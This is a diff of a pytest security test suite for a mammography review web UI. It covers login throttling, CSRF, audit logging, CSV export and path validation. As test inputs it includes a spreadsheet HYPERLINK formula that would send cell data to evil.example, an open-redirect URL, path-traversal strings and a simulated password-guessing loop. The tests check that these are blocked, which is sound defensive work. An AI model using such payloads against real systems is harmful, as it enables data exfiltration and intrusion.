@@ -1,4 +1,4 @@
-"""The review UI over HTTP: refusal without a session, sign-in and lockout, the worklist's order and filters,
+"""The review UI over HTTP: refusal without a session, sign-in and its throttle, the worklist's order and filters,
 calls (CSRF, audit, export, agreement), rendered images and heatmaps, session expiry, the users CLI."""
 
 import csv
@@ -28,12 +28,25 @@ def _csrf(client) -> str:
     return re.search(r'name="csrf-token" content="([^"]+)"', page).group(1)
 
 
-def _sop(server) -> str:
-    return server.client.get(f"/v1/studies/{server.studies[0]}/results").json()["images"][0]["sop_instance_uid"]
+def _image(server) -> tuple[int, str]:
+    """The first stored image of the first study: its id in the UI's URLs, and its SOP Instance UID."""
+    from sqlalchemy import select
+
+    from medvision.serving.tables import Instance
+
+    with server.sessions() as db:
+        row = db.execute(select(Instance.id, Instance.sop_instance_uid).where(
+            Instance.site == "pacs", Instance.study_instance_uid == server.studies[0]).order_by(Instance.id)).first()
+    return row[0], row[1]
+
+
+def _from(address: str) -> httpx.Client:
+    """A browser on another machine: loopback has every 127.x.y.z address, so the service sees another client."""
+    return httpx.Client(transport=httpx.HTTPTransport(local_address=address), timeout=60)
 
 
 def test_every_ui_page_image_and_api_refuses_without_a_session(ui_server):
-    study, sop = ui_server.studies[0], _sop(ui_server)
+    study, (image, _) = f"pacs/{ui_server.studies[0]}", _image(ui_server)
     anon = httpx.Client(base_url=ui_server.url, timeout=30)
     for path in ("/ui/worklist", f"/ui/studies/{study}", "/ui/admin"):
         r = anon.get(path)
@@ -42,8 +55,8 @@ def test_every_ui_page_image_and_api_refuses_without_a_session(ui_server):
     keyed = httpx.Client(base_url=ui_server.url, timeout=30, headers={"Authorization": f"Bearer {ui_server.key}"})
     forged = httpx.Client(base_url=ui_server.url, timeout=30, cookies={"mv_session": "not-a-session"})
     for c in (anon, keyed, forged):
-        for path in ("/ui/api/worklist", f"/ui/api/studies/{study}", f"/ui/images/{sop}.png",
-                     f"/ui/images/{sop}/heatmap.png", "/ui/export.csv"):
+        for path in ("/ui/api/worklist", f"/ui/api/studies/{study}", f"/ui/images/{image}.png",
+                     f"/ui/images/{image}/heatmap.png", "/ui/export.csv"):
             r = c.get(path)
             assert r.status_code == 401 and r.json()["error"]["code"] == "unauthenticated", (path, r.text)
             assert not r.headers["content-type"].startswith("image/")
@@ -56,26 +69,39 @@ def test_every_ui_page_image_and_api_refuses_without_a_session(ui_server):
     assert login.headers["referrer-policy"] == "no-referrer" and login.headers["x-frame-options"] == "DENY"
 
 
-def test_wrong_passwords_lock_the_account_and_are_audited(ui_server):
-    from medvision.serving.db import open_database
+def test_failed_sign_ins_are_throttled_per_address_and_never_lock_a_reader_out(ui_server):
     from medvision.serving.tables import AuditEvent
-    from medvision.serving.users import create_user
+    from medvision.serving.users import MAX_FAILURES_PER_ADDRESS, MAX_FAILURES_PER_NAME, create_user
 
-    sessions = open_database(ui_server.server.config.app.state.settings.database_url)
-    with sessions() as db:
-        create_user(db, "locked1", "right-password-1", "reader")
-    c = httpx.Client(base_url=ui_server.url, timeout=30)
-    for _ in range(5):
-        r = c.post("/ui/login", data={"username": "locked1", "password": "wrong-password"})
+    with ui_server.sessions() as db:
+        create_user(db, "target1", "right-password-1", "reader")
+    url = ui_server.url
+    attacker, reader = _from("127.0.0.2"), _from("127.0.0.3")
+    for _ in range(MAX_FAILURES_PER_NAME):
+        r = attacker.post(f"{url}/ui/login", data={"username": "target1", "password": "wrong-password"})
         assert r.status_code == 200 and "wrong password" in r.text and "mv_session" not in r.cookies
-    r = c.post("/ui/login", data={"username": "locked1", "password": "right-password-1"})
-    assert r.status_code == 200 and "mv_session" not in r.cookies  # locked for 15 minutes, even with the right one
-    # an unknown user gets the same page: the form cannot be used to find user names
-    assert "wrong password" in c.post("/ui/login", data={"username": "nobody", "password": "x"}).text
-    with sessions() as db:
-        reasons = [e.detail.get("reason") for e in db.query(AuditEvent).filter(AuditEvent.action == "ui_login_failed",
-                                                                              AuditEvent.resource == "locked1")]
-    assert reasons.count("wrong_password") == 5 and reasons[-1] == "locked"
+    r = attacker.post(f"{url}/ui/login", data={"username": "target1", "password": "right-password-1"})
+    assert r.status_code == 429 and "Too many failed sign-ins" in r.text and "mv_session" not in r.cookies
+    assert int(r.headers["retry-after"]) > 0
+    # the reader, at their own workstation, signs in as always: the attacker cannot lock them out
+    r = reader.post(f"{url}/ui/login", data={"username": "target1", "password": "right-password-1"})
+    assert r.status_code == 303 and "mv_session" in r.cookies
+    # an unknown user gets the same page as a wrong password: the form cannot be used to find user names
+    r = attacker.post(f"{url}/ui/login", data={"username": "nobody", "password": "my-secret-password"})
+    assert r.status_code == 200 and "wrong password" in r.text
+    # past the address's limit every name is refused from there, and only from there
+    for i in range(MAX_FAILURES_PER_ADDRESS - MAX_FAILURES_PER_NAME - 1):
+        attacker.post(f"{url}/ui/login", data={"username": f"guess{i}", "password": "x"})
+    r = attacker.post(f"{url}/ui/login", data={"username": READER[0], "password": READER[1]})
+    assert r.status_code == 429
+    assert _from("127.0.0.4").post(f"{url}/ui/login", data={"username": READER[0], "password": READER[1]}).status_code == 303
+    with ui_server.sessions() as db:
+        failed = [(e.resource, e.detail.get("reason"), e.status) for e in
+                  db.query(AuditEvent).filter(AuditEvent.action == "ui_login_failed").order_by(AuditEvent.id)]
+    assert failed.count(("target1", "wrong_password", 401)) == MAX_FAILURES_PER_NAME
+    assert ("", "throttled", 429) in failed
+    # a name that is nobody's (perhaps a password typed into the wrong field) is not written down
+    assert ("", "unknown_user", 401) in failed and not [f for f in failed if "secret" in f[0] or "guess" in f[0]]
     # an open redirect is not possible through ?next=
     r = _login(ui_server, READER).post("/ui/login", data={"username": READER[0], "password": READER[1],
                                                         "next": "https://evil.example/"})
@@ -101,34 +127,49 @@ def test_worklist_is_in_suspicion_order_with_filters_and_search(ui_server):
     assert c.get("/ui/api/worklist", params={"from": "2999-01-01"}).json()["count"] == 0
     r = c.get("/ui/api/worklist", params={"from": "yesterday"})
     assert r.status_code == 422 and "YYYY-MM-DD" in r.json()["error"]["message"]
+    with ui_server.sessions() as db:  # searches are accesses: audited with what was asked for
+        from medvision.serving.tables import AuditEvent
+
+        searched = [e.detail["filters"] for e in db.query(AuditEvent).filter(AuditEvent.action == "ui_search_worklist")]
+    assert {"q": target["accession"]} in searched and {"status": "unread"} not in searched
     newest = c.get("/ui/api/worklist", params={"sort": "newest"}).json()["studies"]
     assert [s["scored_at"] for s in newest] == sorted((s["scored_at"] for s in newest), reverse=True)
     # the study view: images in hanging order with presets, neighbours in worklist order
-    detail = c.get(f"/ui/api/studies/{studies[1]['study_instance_uid']}").json()
-    assert detail["previous"] == studies[0]["study_instance_uid"] and detail["next"] == studies[2]["study_instance_uid"]
+    detail = c.get(f"/ui/api/studies/pacs/{studies[1]['study_instance_uid']}").json()
+    assert detail["previous"] == {"site": "pacs", "study_instance_uid": studies[0]["study_instance_uid"]}
+    assert detail["next"] == {"site": "pacs", "study_instance_uid": studies[2]["study_instance_uid"]}
     hanging = [(i["laterality"], i["view"]) for i in detail["images_detail"]]
     assert hanging == [("R", "CC"), ("L", "CC"), ("R", "MLO"), ("L", "MLO")]
     assert all(i["stored"] and "default" in i["presets"] for i in detail["images_detail"])
-    assert c.get("/ui/api/studies/1.2.3.4.5").status_code == 404
+    assert c.get("/ui/api/studies/pacs/1.2.3.4.5").status_code == 404
+    assert c.get(f"/ui/api/studies/elsewhere/{studies[0]['study_instance_uid']}").status_code == 404
+    for bad in ("%2E%2E", "1.2.03", "x" * 70):
+        r = c.get(f"/ui/api/studies/pacs/{bad}")
+        assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_uid", bad
+    assert c.get("/ui/api/studies/pacs/..%2F..%2Fetc").status_code == 404  # a slash never reaches a parameter
+    r = c.get(f"/ui/api/studies/%2E%2E/{studies[0]['study_instance_uid']}")
+    assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_site"
 
 
 def test_a_call_needs_the_csrf_token_and_lands_in_audit_export_and_agreement(ui_server):
     reader, admin = _login(ui_server, READER), _login(ui_server, ADMIN)
     study = ui_server.studies[2]
-    r = reader.post(f"/ui/api/studies/{study}/call", json={"call": "disagree", "comment": "benign calcification"})
+    call = f"/ui/api/studies/pacs/{study}/call"
+    r = reader.post(call, json={"call": "disagree", "comment": "benign calcification"})
     assert r.status_code == 403 and r.json()["error"]["code"] == "csrf_failed"
     token = _csrf(reader)
-    bad = reader.post(f"/ui/api/studies/{study}/call", json={"call": "maybe"}, headers={"X-CSRF-Token": token})
+    bad = reader.post(call, json={"call": "maybe"}, headers={"X-CSRF-Token": token})
     assert bad.status_code == 422 and "agree, disagree, uncertain" in bad.json()["error"]["message"]
-    bad = reader.post(f"/ui/api/studies/{study}/call", json={"call": "agree", "birads": "7"}, headers={"X-CSRF-Token": token})
+    bad = reader.post(call, json={"call": "agree", "birads": "7"}, headers={"X-CSRF-Token": token})
     assert bad.status_code == 422
-    r = reader.post(f"/ui/api/studies/{study}/call", json={"call": "disagree", "birads": "2", "comment": "benign calcification"},
+    r = reader.post(call, json={"call": "disagree", "birads": "2", "comment": "benign calcification"},
                     headers={"X-CSRF-Token": token})
     assert r.status_code == 200 and r.json()["call"] == "disagree"
     assert [s["study_instance_uid"] for s in reader.get("/ui/api/worklist", params={"status": "disagreed"}).json()["studies"]] == [study]
     assert study not in {s["study_instance_uid"] for s in reader.get("/ui/api/worklist", params={"status": "unread"}).json()["studies"]}
     admin_token = _csrf(admin)
-    assert admin.post(f"/ui/api/studies/{ui_server.studies[3]}/call", json={"call": "agree"},
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    assert admin.post(f"/ui/api/studies/pacs/{ui_server.studies[3]}/call", json={"call": "agree", "comment": formula},
                       headers={"X-CSRF-Token": admin_token}).status_code == 200
     # readers cannot export or see the admin page; the admin can
     assert reader.get("/ui/export.csv").status_code == 403
@@ -139,6 +180,10 @@ def test_a_call_needs_the_csrf_token_and_lands_in_audit_export_and_agreement(ui_
     mine = [row for row in rows if row["study_instance_uid"] == study]
     assert mine and mine[0]["call"] == "disagree" and mine[0]["comment"] == "benign calcification"
     assert mine[0]["reader"] == READER[0] and mine[0]["birads"] == "2" and float(mine[0]["ai_probability"]) > 0
+    assert mine[0]["site"] == "pacs"
+    # a comment a spreadsheet would run as a formula is exported as text
+    theirs = next(row for row in rows if row["study_instance_uid"] == ui_server.studies[3])
+    assert theirs["comment"] == "'" + formula
     page = admin.get("/ui/admin").text
     assert "ui_call" in page and study in page and "50.0 % (1)" in page  # one agree, one disagree
     assert "benign calcification" not in page  # comments are in the export, not in the audit log
@@ -149,28 +194,40 @@ def test_images_render_through_the_dicom_pipeline_with_windows_and_heatmap(ui_se
     from medvision.preprocess import to_display
 
     c = _login(ui_server, READER)
-    sop = _sop(ui_server)
+    image, sop = _image(ui_server)
     app = ui_server.server.config.app.state
-    r = c.get(f"/ui/images/{sop}.png")
+    r = c.get(f"/ui/images/{image}.png")
     assert r.status_code == 200 and r.headers["content-type"] == "image/png"
     img = np.asarray(Image.open(io.BytesIO(r.content)))
     from medvision.serving import reviews
 
     with app.db() as db:
-        path = reviews.image_path(db, sop)
+        path = reviews.image_path(db, image)
     stored, meta = read_dicom(path)
     expected = (to_display(stored, meta, app.engine.preprocess.cfg) * 255).round()
     assert img.shape == stored.shape and np.abs(img.astype(float) - expected).max() <= 1
-    info = c.get(f"/ui/api/studies/{ui_server.studies[0]}").json()["images_detail"]
+    info = c.get(f"/ui/api/studies/pacs/{ui_server.studies[0]}").json()["images_detail"]
     preset = next(i for i in info if i["sop_instance_uid"] == sop)["presets"]["dense"]
-    narrow = np.asarray(Image.open(io.BytesIO(c.get(f"/ui/images/{sop}.png", params={"wc": preset["center"],
-                                                                                    "ww": preset["width"]}).content)))
+    narrow = np.asarray(Image.open(io.BytesIO(c.get(f"/ui/images/{image}.png", params={"wc": preset["center"],
+                                                                                      "ww": preset["width"]}).content)))
     assert narrow.shape == img.shape and not np.array_equal(narrow, img)
-    heat = Image.open(io.BytesIO(c.get(f"/ui/images/{sop}/heatmap.png").content))
+    heat = Image.open(io.BytesIO(c.get(f"/ui/images/{image}/heatmap.png").content))
     assert heat.mode == "RGBA" and heat.size == (img.shape[1], img.shape[0])
     alpha = np.asarray(heat)[..., 3]
     assert alpha.max() > 0 and alpha.min() == 0  # coloured where the model looked, transparent outside its view
-    assert c.get("/ui/images/1.2.3.png").status_code == 404
+    assert c.get("/ui/images/999999.png").status_code == 404
+    assert c.get("/ui/images/1.2.3.png").status_code == 422  # an image is named by its number, nothing else
+    # every view is audited, with the image it showed
+    from medvision.serving.tables import AuditEvent
+
+    with app.db() as db:
+        views = {(e.action, e.resource, e.status) for e in db.query(AuditEvent).filter(
+            AuditEvent.action.in_(("ui_view_image", "ui_view_heatmap")))}
+    assert {("ui_view_image", str(image), 200), ("ui_view_heatmap", str(image), 200),
+            ("ui_view_image", "999999", 404)} <= views
+    # renderings on disk are the service user's alone
+    renders = [p for p in (ui_server.data_dir / "renders").rglob("*.png")]
+    assert renders and all(p.stat().st_mode & 0o077 == 0 for p in renders)
 
 
 def test_sessions_expire_and_sign_out_ends_them(ui_server):
@@ -213,8 +270,8 @@ def test_users_cli_creates_lists_and_disables(tmp_path, monkeypatch, capsys):
     from medvision.serving.users import authenticate
 
     with open_database(db)() as s:
-        assert authenticate(s, "dr.grey", "a-long-password")[0] is not None
-        assert authenticate(s, "dr.house", generated) == (None, "disabled")
+        assert authenticate(s, "dr.grey", "a-long-password", "127.0.0.1")[0] is not None
+        assert authenticate(s, "dr.house", generated, "127.0.0.1") == (None, "disabled")
 
 
 def test_monochrome1_renders_bright_where_dense(ui_server, dicom_files):
@@ -224,9 +281,9 @@ def test_monochrome1_renders_bright_where_dense(ui_server, dicom_files):
     c = _login(ui_server, READER)
     app = ui_server.server.config.app.state
     with app.db() as db:
-        sops = [i["sop_instance_uid"] for u in ui_server.studies for i in reviews.study(db, u)["images_detail"]]
-        paths = {s: reviews.image_path(db, s) for s in sops}
-    mono1 = [s for s, p in paths.items() if pydicom.dcmread(p, stop_before_pixels=True).PhotometricInterpretation == "MONOCHROME1"]
+        ids = [i["image_id"] for u in ui_server.studies for i in reviews.study(db, "pacs", u)["images_detail"]]
+        paths = {i: reviews.image_path(db, i) for i in ids}
+    mono1 = [i for i, p in paths.items() if pydicom.dcmread(p, stop_before_pixels=True).PhotometricInterpretation == "MONOCHROME1"]
     assert mono1, "the synthetic set should contain MONOCHROME1 images"
     ds = pydicom.dcmread(paths[mono1[0]])
     raw = ds.pixel_array.astype(float)
